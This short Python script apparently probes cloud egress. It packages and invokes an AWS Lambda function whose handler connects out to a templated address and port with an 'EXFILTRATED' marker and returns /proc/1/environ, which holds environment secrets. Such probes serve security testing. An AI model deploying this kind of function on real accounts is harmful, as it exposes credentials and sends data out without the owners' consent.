import io
import zipfile

code = '''
import socket
def handler(event, context):
    socket.create_connection(("{{ADDRESS}}", {{PORT}}), 1).send(b"EXFILTRATED")
    return open("/proc/1/environ").read()
'''
archive = io.BytesIO()
with zipfile.ZipFile(archive, "w") as file:
    file.writestr("index.py", code)
functions = boto3.client("lambda")
try:
    functions.create_function(
        FunctionName="out", Runtime="python3.11", Role=role, Handler="index.handler",
        Code={"ZipFile": archive.getvalue()},
    )
    functions.get_waiter("function_active_v2").wait(FunctionName="out")
    print(functions.invoke(FunctionName="out")["Payload"].read())
except Exception as error:
    print(error)
